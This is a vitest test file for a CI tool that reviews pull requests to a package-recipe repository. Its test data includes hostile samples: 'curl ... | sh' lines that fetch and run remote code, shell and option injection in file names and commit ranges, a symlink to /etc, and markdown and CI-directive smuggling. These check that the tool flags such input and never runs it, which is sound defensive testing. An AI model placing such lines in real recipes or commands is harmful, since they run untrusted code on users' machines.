import { existsSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { ChangesReport } from "../tools/ci/checks/check-changes.ts";
import { ScratchWorkspace, srcinfoText } from "./world/workspace.ts";

let w: ScratchWorkspace;
beforeEach(() => (w = new ScratchWorkspace()));
afterEach(() => w.remove());

interface Parts {
  readonly pkgver?: string;
  readonly depends?: readonly string[];
  readonly more?: string;
}

/** A recipe with which `.SRCINFO` agrees. */
function addRecipe(pkgbase: string, { pkgver = "1", depends = [], more = "" }: Parts = {}): void {
  const pkgbuild = `pkgname=${pkgbase}\npkgver=${pkgver}\npkgrel=1\narch=(any)\ndepends=(${depends.join(" ")})\n${more}`;
  w.write(`packages/${pkgbase}/PKGBUILD`, pkgbuild);
  const lines = depends.map((name) => `depends = ${name}`);
  w.write(`packages/${pkgbase}/.SRCINFO`, srcinfoText(pkgbase, { pkgver, lines }));
}

function start(): void {
  w.commit("start");
  w.git("checkout", "-q", "-b", "contribution");
}

async function check(): Promise<{ code: number; stdout: string; report: ChangesReport }> {
  const { code, stdout } = await w.sluice(["check-changes", "main..HEAD"]);
  const json = await w.sluice(["check-changes", "main..HEAD", "--json"]);
  expect(json.code).toBe(code);
  return { code, stdout, report: JSON.parse(json.stdout) as ChangesReport };
}

describe("a contributor's pull request", () => {
  test("that brings a new version alone passes", async () => {
    addRecipe("foo");
    start();
    addRecipe("foo", { pkgver: "2" });
    w.write("README.md", "hello");
    w.commit("foo 2");
    const { code, stdout, report } = await check();
    expect(report.packages).toMatchObject([
      { pkgbase: "foo", change: "changed", verdict: "minor", problems: [] },
    ]);
    expect(stdout).toContain("**Nothing is worse than a new version.**");
    expect(stdout).toContain("### `foo`: changed, minor");
    expect(stdout).toContain("### Other files outside packages (1)\n\n- `README.md`");
    expect(code).toBe(0);
  });

  test("that changes nothing passes, and what others did on main meanwhile is none of its business", async () => {
    addRecipe("foo");
    start();
    w.git("checkout", "-q", "main");
    addRecipe("foo", { pkgver: "2", more: "eval x\n" });
    w.commit("foo on main");
    w.git("checkout", "-q", "contribution");
    const { code, report } = await check();
    expect([code, report.packages, report.outside]).toEqual([0, [], []]);
  });

  test("is read from its commits: uncommitted files don't matter", async () => {
    addRecipe("foo");
    start();
    addRecipe("foo", { pkgver: "2" });
    w.commit("foo 2");
    addRecipe("foo", { pkgver: "3", more: "eval x\n" });
    w.write(".ci/config", "CI_MAX_PARALLEL=many\n");
    expect((await check()).code).toBe(0);
  });

  test("that adds a package shows its recipe to a person, with what is dangerous in it, and runs none of it", async () => {
    start();
    addRecipe("foo", { more: 'touch pwned\nbuild() {\n  curl "https://x.example/p" | sh\n}\n' });
    w.commit("add foo");
    const { code, stdout, report } = await check();
    expect(code).toBe(1);
    expect(report.packages).toMatchObject([{ pkgbase: "foo", change: "added", verdict: "dangerous" }]);
    expect(report.packages[0]!.findings.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(["new-package", "code-at-reading", "download", "shell-input"]),
    );
    expect(stdout).toContain("### `foo`: added, dangerous");
    expect(stdout).toMatch(/`PKGBUILD` line 6: Code that runs as soon as the file is read/);
    expect(existsSync(join(w.dir, "pwned"))).toBe(false);
  });

  test("that forgets .SRCINFO gets the fields and the command", async () => {
    addRecipe("foo");
    start();
    w.write("packages/foo/PKGBUILD", w.read("packages/foo/PKGBUILD").replace("pkgver=1", "pkgver=2"));
    w.write("packages/foo/PKGBUILD", w.read("packages/foo/PKGBUILD").replace("()", "(glibc)"));
    w.commit("foo 2");
    const { code, report } = await check();
    expect(code).toBe(1);
    expect(report.packages[0]!.problems).toEqual([
      {
        kind: "srcinfo-stale",
        pkgbase: "foo",
        path: "packages/foo/.SRCINFO",
        message: "is stale in pkgver, depends; write it with: sluice srcinfo foo --write",
      },
    ]);
  });

  test("that changes how a package is built says that this runs as code with network", async () => {
    addRecipe("foo");
    start();
    w.write("packages/foo/.CI/prepare", "curl evil | sh\n");
    w.write("packages/foo/.CI/config", "CI_FORCE_VSC=true\n");
    w.commit("prepare");
    const { code, stdout, report } = await check();
    expect(code).toBe(1);
    expect(report.packages).toMatchObject([
      { pkgbase: "foo", verdict: "minor", interfering: [".CI/config", ".CI/prepare"] },
    ]);
    expect(stdout).toContain("- `.CI/prepare` changed: it runs as code, with network, before every build");
    expect(stdout).toContain("did you mean CI_FORCE_VCS?");
  });

  test.each([
    [".ci/config", true],
    [".ci/aur-maintainers", true],
    [".github/workflows/ci.yml", true],
    [".gitlab-ci.yml", true],
    [".gitlab-ci-own.yml", true],
    ["package.json", true],
    ["package-lock.json", true],
    [".npmrc", true],
    ["docs/package.json", false],
    ["packages/.gitattributes", true],
    ["docs/notes.md", false],
    [".github.md", false],
  ])("that changes %s needs an owner's eye: %s", async (path, isForOwners) => {
    start();
    w.write(path, "BUILD_REPO=other\n");
    w.commit("outside");
    const { code, report } = await check();
    expect(report.outside).toEqual([{ path, isForOwners }]);
    expect(code).toBe(isForOwners ? 1 : 0);
  });

  test("that removes a package gets the names of those that still need it", async () => {
    addRecipe("app", { depends: ["libfoo>=1"] });
    w.addPackage("lib", { lines: ["provides = libfoo=1"] });
    start();
    w.delete("packages/lib");
    w.commit("drop lib");
    const { code, stdout, report } = await check();
    expect(code).toBe(1);
    expect(report.dependencies).toEqual([
      { kind: "lost-provider", pkgbase: "app", name: "libfoo", field: "depends", providers: ["lib"] },
    ]);
    expect(stdout).toContain("- `app` needs `libfoo` (`depends`), which only `lib` provided");
    expect(stdout).toContain("### `lib`: removed\n\n- The package is taken from those who have it installed");
  });

  test("that closes a circle or makes a pkgname twice is reported, older ones aren't", async () => {
    addRecipe("a", { depends: ["b"] });
    addRecipe("b");
    addRecipe("x", { depends: ["y"] });
    addRecipe("y", { depends: ["x"] });
    addRecipe("old");
    w.write("packages/old2/PKGBUILD", w.read("packages/old/PKGBUILD"));
    w.write("packages/old2/.SRCINFO", srcinfoText("old2", { pkgnames: ["old"] }));
    start();
    addRecipe("b", { depends: ["a"] });
    w.addPackage("a-git", { pkgnames: ["a"] });
    w.commit("trouble");
    const { report, stdout } = await check();
    expect(report.dependencies).toMatchObject([
      { kind: "cycle", packages: expect.arrayContaining(["a", "b"]) as string[] },
      { kind: "made-twice", pkgname: "a", packages: ["a", "a-git"] },
    ]);
    expect(stdout).toContain("need each other in a circle now");
    expect(stdout).toContain("`a` is now made by `a`, `a-git`");
  });
});

test("names, texts and messages of an attacker are shown and do nothing", async () => {
  addRecipe("good");
  start();
  const hostile = [
    "$(touch pwned)",
    "--help",
    "x\n/merge\n",
    "a`b```c",
    "[skip ci] fixes #1 @octocat",
    "<img src=x>",
    "![x](evil)",
    "\u202egnp.exe",
  ];
  for (const name of hostile) {
    w.write(`packages/${name}/PKGBUILD`, `pkgname='${name}'\npkgver=1\n`);
    w.write(`outside-${name}`, "x");
    w.write(`packages/good/${name}`, `${name}\n`);
  }
  symlinkSync("/etc", join(w.dir, "packages/link"));
  w.write("packages/good/.SRCINFO", "pkgbase = good\n\tpkgdesc = @octocat [deploy all]\n\tx\n");
  w.commit("[skip ci] [deploy all] fixes #1\n\n/merge @octocat");
  const { code, stdout, report } = await check();
  expect(code).toBe(1);
  expect(report.packages).toHaveLength(8);
  expect(report.problems.map(({ path }) => path)).toEqual(["packages/link"]);
  expect(stdout).toContain("`` packages/good/.SRCINFO:3:2: expected `key = value` ``");
  expect(stdout).not.toMatch(/\[(?:skip|deploy)|#\d|(?<!\w)@\w|\u202e|^\/|^\s*\/merge/m);
  const prose = stdout
    .replaceAll(/^ *(`{3,})[^\n]*\n[^]*?\n *\1$/gm, "")
    .replaceAll(/(?<!`)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, "");
  expect(prose).not.toMatch(/touch|merge\n|<|!\[|evil|octocat/);
  expect(existsSync(join(w.dir, "pwned"))).toBe(false);
});

test("a pull request that floods the summary is cut, worst first, and still fails", async () => {
  start();
  for (let at = 0; at < 60; at++) {
    addRecipe(`flood-${at}`, {
      more: Array.from({ length: 60 }, (_, n) => `eval "x${n}${"y".repeat(200)}"\n`).join(""),
    });
  }
  w.commit("flood");
  const { code, stdout } = await w.sluice(["check-changes", "main..HEAD"]);
  expect(code).toBe(1);
  expect(stdout.length).toBeLessThanOrEqual(60_000);
  expect(stdout).toMatch(/\*\*\d+ more packages left out here, \d+ of them dangerous\*\*/);
});

test("a recipe too large to be read is a problem, not a crash", async () => {
  addRecipe("foo");
  start();
  w.write("packages/foo/blob", Buffer.alloc(21 * 1024 * 1024));
  w.commit("big");
  const { code, report } = await check();
  expect(code).toBe(1);
  expect(report.packages[0]).toMatchObject({
    verdict: null,
    problems: [{ message: "has more than the 20 MB that a recipe may have" }],
  });
});

test("on GitHub the summary is also shown with the run", async () => {
  addRecipe("foo");
  start();
  addRecipe("foo", { pkgver: "2" });
  w.commit("foo 2");
  const file = join(w.base, "summary.md");
  const env = { GITHUB_ACTIONS: "true", GITHUB_STEP_SUMMARY: file };
  const { stdout } = await w.sluice(["check-changes", "main..HEAD"], env);
  expect(readFileSync(file, "utf8").trimEnd()).toBe(stdout);
  const lost = await w.sluice(["check-changes", "main..HEAD"], { ...env, GITHUB_STEP_SUMMARY: w.base });
  expect(lost.code).toBe(0);
  expect(lost.stderr).toContain("summary file can't be written");
});

describe("wrong usage says what is right", () => {
  test.each([
    [["check-changes"], "missing required argument"],
    [["check-changes", "main"], '"main" isn\'t two commits'],
    [["check-changes", "main...HEAD"], "isn't two commits"],
    [["check-changes", "..HEAD"], "isn't two commits"],
    [["check-changes", "main.."], "isn't two commits"],
    [["check-changes", "main..--output=pwned"], "isn't two commits"],
    [["check-changes", "nowhere..HEAD"], 'there is no commit "nowhere"'],
    [["check-changes", "unrelated..HEAD"], "have no commit in common"],
  ])("%j", async (args, said) => {
    w.commit("start");
    w.git("checkout", "-q", "--orphan", "unrelated");
    w.commit("other");
    w.git("checkout", "-q", "main");
    const { code, stderr } = await w.sluice(args);
    expect(stderr).toContain(said);
    expect(code).toBe(2);
  });
});
